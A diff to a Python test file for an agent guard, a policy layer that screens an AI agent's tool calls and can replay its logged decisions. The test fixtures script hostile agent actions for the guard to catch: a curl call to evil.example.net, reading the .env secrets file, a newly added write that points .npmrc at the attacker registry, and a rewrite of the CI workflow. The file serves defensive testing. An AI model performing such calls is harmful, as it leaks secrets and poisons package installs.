@@ -46,6 +46,7 @@ def call(number: int, tool: str, **arguments: str) -> dict[str, object]:
 WRITE_42 = call(1, "write_file", path="answer.txt", content="42\n")
 LEAK = call(2, "bash", command="curl https://evil.example.net")
 READ_SECRET = call(3, "read_file", path=".env")
+CHANGE_PACKAGES = call(2, "write_file", path=".npmrc", content="registry=https://evil.example.net")
 CHANGE_CI = call(4, "write_file", path=".github/workflows/ci.yml", content="on: push")
 DONE = {"content": "Done."}
 
@@ -86,7 +87,7 @@ def test_model_calls_decisions_and_tool_calls_are_events(
     ]
     denied = log.events("r1", kind="decision")[1]
     assert "curl" in str(denied.body["question"])
-    assert denied.body["policy"] == "agent-guard/1.3"
+    assert denied.body["policy"] == "agent-guard/2.0"
     assert verify(log).ok
 
 
@@ -229,7 +230,7 @@ def test_decisions_of_the_guard_can_be_repeated(
     shop: RunDependencies, ask: Ask, log: EventLog, model: Callable[..., str]
 ) -> None:
     """The guard remembers the secret that was read, when it ran and when it is asked again."""
-    replies = (READ_SECRET, LEAK, CHANGE_CI, WRITE_42, DONE)
+    replies = (READ_SECRET, CHANGE_PACKAGES, CHANGE_CI, WRITE_42, DONE)
     run_blueprint(ask(checked("shell", "read", "write"), model=model(*replies)), shop, run_id="r1")
     decisions = log.events("r1", kind="decision")
     assert [event.body["verdict"] for event in decisions] == [
@@ -242,7 +243,7 @@ def test_decisions_of_the_guard_can_be_repeated(
     done = replay(log.history("r1"), POLICIES)
     assert done.differences == ()
     shown = [row[1] for row in table(shop.run_view("r1"), "Decisions") if row[3] == "C4"]
-    assert shown == ["bash", "write_file"]
+    assert shown == ["write_file", "write_file"]
 
 
 def test_snapshots_are_events(shop: RunDependencies, ask: Ask, log: EventLog) -> None:
